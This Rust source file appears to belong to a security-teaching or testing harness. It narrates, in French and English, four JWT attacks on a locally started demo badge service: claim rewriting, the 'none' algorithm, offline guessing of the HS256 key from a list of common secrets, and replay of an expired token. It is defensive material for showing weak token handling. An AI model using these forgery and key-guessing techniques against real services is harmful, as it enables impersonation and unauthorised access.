//! Somebody with an ordinary badge, who would like to be somebody else: writes on it, unsigns it, guesses the key, and
//! takes an old one out of a log.

use std::time::Instant;

use serde_json::json;

use super::check::{claims, header, now};
use crate::{Failure, Ground, Loot, Raid, Visitor, forge};

/// Who the attacker would like to be.
const VICTIM: &str = "directrice";
/// Keys that are in examples and tutorials, with these ends.
const COMMON: [&str; 20] = [
    "admin",
    "azerty",
    "badge",
    "changeme",
    "default",
    "dev",
    "escale",
    "jwt",
    "key",
    "motdepasse",
    "my-secret",
    "password",
    "private",
    "s3cr3t",
    "secret",
    "signature",
    "supersecret",
    "test",
    "token",
    "your-256-bit-secret",
];
const LAST_NUMBER: u32 = 500;
const DAYS_IN_THE_LOG: u64 = 90;

pub async fn attack(ground: Ground) -> Raid {
    let key = format!("{}{}", ground.dice().word(), ground.dice().word());
    let app = ground.app("escale-badge", &[("BADGE_KEY", &key)]).await?;
    let attacker = app.visitor("http://localhost:8081")?;
    let answer = attacker
        .post("/login", &json!({"pseudo": "mallory"}))
        .await?;
    let badge = answer.expect_status(200)?.field("/token")?;
    let (_, said) = forge::parts(&badge);
    ground.say(
        format!(
            "Je me connecte comme « mallory » et je lis mon badge, qui n'est pas chiffré : {said}"
        ),
        format!("Logging in as “mallory” and reading my badge, which is not encrypted: {said}"),
    );
    let mut opened = 0;
    opened += u32::from(rewritten(&ground, &attacker, &badge).await?);
    opened += u32::from(unsigned(&ground, &attacker, &badge).await?);
    opened += u32::from(guessed(&ground, &attacker, &badge).await?);
    opened += u32::from(from_a_log(&ground, &attacker, &key).await?);
    if opened == 0 {
        return Loot::nothing(
            format!(
                "Quatre façons de me faire passer pour « {VICTIM} » : aucune n'ouvre la porte."
            ),
            format!("Four ways to pass for “{VICTIM}”: none opens the door."),
        );
    }
    Loot::taken(
        format!("Quatre façons de me faire passer pour « {VICTIM} » : {opened} ouvrent la porte."),
        format!("Four ways to pass for “{VICTIM}”: {opened} open the door."),
    )
}

async fn rewritten(ground: &Ground, attacker: &Visitor, badge: &str) -> Result<bool, Failure> {
    ground.say(
        format!("J'écris « {VICTIM} » à la place de mon nom, sous l'ancienne signature…"),
        format!("Writing “{VICTIM}” in the place of my name, under the old signature…"),
    );
    let (header, _) = forge::parts(badge);
    let forged = forge::with_old_signature(badge, &header, &claims(VICTIM));
    try_the_door(ground, attacker, &forged).await
}

async fn unsigned(ground: &Ground, attacker: &Visitor, badge: &str) -> Result<bool, Failure> {
    ground.say(
        "J'annonce l'algorithme « none », et ne signe rien…",
        "Naming the algorithm “none”, and signing nothing…",
    );
    let (_, mut claims) = forge::parts(badge);
    claims["user"] = json!(VICTIM);
    let forged = forge::unsigned(&header("none"), &claims);
    try_the_door(ground, attacker, &forged).await
}

/// Nobody sees this: one badge is enough to try keys against at home.
async fn guessed(ground: &Ground, attacker: &Visitor, badge: &str) -> Result<bool, Failure> {
    let begun = Instant::now();
    let numbered = |word: &'static str| {
        (0..=LAST_NUMBER).map(move |number| match number {
            0 => word.to_owned(),
            number => format!("{word}{number}"),
        })
    };
    let mut tried = 0;
    let found = COMMON.into_iter().flat_map(numbered).find(|key| {
        tried += 1;
        forge::is_hs256_of(badge, key.as_bytes())
    });
    let took = begun.elapsed().as_millis();
    let Some(key) = found else {
        ground.say(
            format!(
                "{tried} clés courantes essayées hors ligne en {took} ms : aucune n'a signé mon badge."
            ),
            format!("{tried} common keys tried offline in {took} ms: none signed my badge."),
        );
        return Ok(false);
    };
    ground.say(
        format!(
            "Clé trouvée hors ligne en {took} ms, au bout de {tried} essais : « {key} ». Je signe ce que je veux…"
        ),
        format!(
            "Key found offline in {took} ms, after {tried} tries: “{key}”. Signing what I like…"
        ),
    );
    let forged = forge::hs256(&header("HS256"), &claims(VICTIM), key.as_bytes());
    try_the_door(ground, attacker, &forged).await
}

async fn from_a_log(ground: &Ground, attacker: &Visitor, key: &str) -> Result<bool, Failure> {
    ground.say(
        format!("Dans un vieux journal, je trouve un vrai badge de « {VICTIM} », échu depuis {DAYS_IN_THE_LOG} jours…"),
        format!("In an old log, finding a real badge of “{VICTIM}”, expired {DAYS_IN_THE_LOG} days ago…"),
    );
    let mut old = claims(VICTIM);
    old["exp"] = json!(now() - DAYS_IN_THE_LOG * 86_400);
    // Made here with the service's key, as the service would have made it then.
    let old = forge::hs256(&header("HS256"), &old, key.as_bytes());
    try_the_door(ground, attacker, &old).await
}

async fn try_the_door(ground: &Ground, attacker: &Visitor, badge: &str) -> Result<bool, Failure> {
    let answer = attacker.with_token(badge).get("/protected").await?;
    let shown = answer.shown();
    ground.say(
        format!("  GET /protected : {shown}"),
        format!("  GET /protected: {shown}"),
    );
    Ok(answer.status == 200 && answer.json()["user"] == VICTIM)
}
